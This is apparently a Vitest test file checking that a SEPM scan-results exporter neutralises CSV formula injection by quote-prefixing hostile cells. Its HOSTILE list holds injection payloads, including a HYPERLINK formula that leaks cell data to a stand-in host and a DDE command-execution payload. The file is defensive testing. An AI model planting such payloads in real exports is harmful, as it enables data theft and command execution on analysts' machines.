import { describe, expect, it } from 'vitest';
import { processCommandStatus } from '../../../../src/sepm/results/command-status.ts';
import type { CommandStatusEntry, SepmPage } from '../../../../src/sepm/functions/types.ts';
import type { SepmClient } from '../../../../src/sepm/client/client.ts';
import { streamScanStatus } from '../../../../src/enrich/tracking/scan-stream.ts';
import { fixture } from '../../../helpers/fake-sepm.ts';
import { parseCsv } from '../../../helpers/csv-reader.ts';

/**
 * CSV injection (issue 10 item 13): computer names and file paths come from endpoints and end up in CSV files that
 * analysts open in a spreadsheet. A cell starting with `= + - @`, tab or CR must arrive as text (prefixed `'`).
 */

const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1)', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\tx', '\rx'];

function xml(paths: string[], remediated = false): string {
  const attr = remediated ? ' remediation="SUCCEEDED"' : '';
  const matched = paths
    .map(
      (p) =>
        `<Matched result="HASH_MATCH" value="${p.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/\t/g, '&#9;').replace(/\r/g, '&#13;')}"${attr} hashType="SHA256"/>`,
    )
    .join('');
  return `<EOC><Activity><OS><Files><File name="C:\\t\\a.exe" action="create"><Hash name="SHA256" value="AB"/>${matched}</File></Files></OS></Activity></EOC>`;
}

function page(remediated: boolean): SepmPage<CommandStatusEntry> {
  const p = fixture<SepmPage<CommandStatusEntry>>('command_status_eoc_quickscan_14.2.json');
  p.content = [{ ...p.content[0]!, stateId: 3, computerName: '=1+1', resultInXML: xml(HOSTILE, remediated) }];
  return p;
}

const opts = { commandId: 'CMD1', scanTimeoutSec: 1800, nowMs: Date.parse('2026-01-01T12:00:00Z') };

describe('CSV attachments neutralise formula cells', () => {
  it('scan CSV: hostile file paths and computer names are prefixed with a quote', () => {
    const out = processCommandStatus(page(false), { ...opts, statusType: 'scan', resultsLimit: 1 });
    const rows = parseCsv(out.csv!.content).slice(2);
    expect(rows.map((r) => r[4])).toEqual(HOSTILE.map((v) => `'${v}`));
    expect(rows.every((r) => r[0] === "'=1+1")).toBe(true);
  });

  it('remediation CSV: the same', () => {
    const out = processCommandStatus(page(true), { ...opts, statusType: 'remediation', resultsLimit: 200 });
    const rows = parseCsv(out.csv!.content).slice(2);
    expect(rows.map((r) => r[3])).toEqual(HOSTILE.map((v) => `'${v}`));
    expect(rows[0]![0]).toBe("'=1+1");
  });

  it('streamed scan CSV (over the results limit): the same', async () => {
    const entry = { computerName: '@evil', computerId: 'ID1', stateId: 3, resultInXML: xml(HOSTILE) };
    const client = {
      async *pages() {
        yield { content: [entry] };
      },
    } as unknown as SepmClient;
    const r = await streamScanStatus(client, 'CMD', { limit: 1, stopOnPending: true, now: new Date() });
    const rows = parseCsv(r.csv!.content.toString('utf8')).slice(2);
    expect(rows.map((row) => row[4])).toEqual(HOSTILE.map((v) => `'${v}`));
    expect(rows[0]![0]).toBe("'@evil");
  });
});
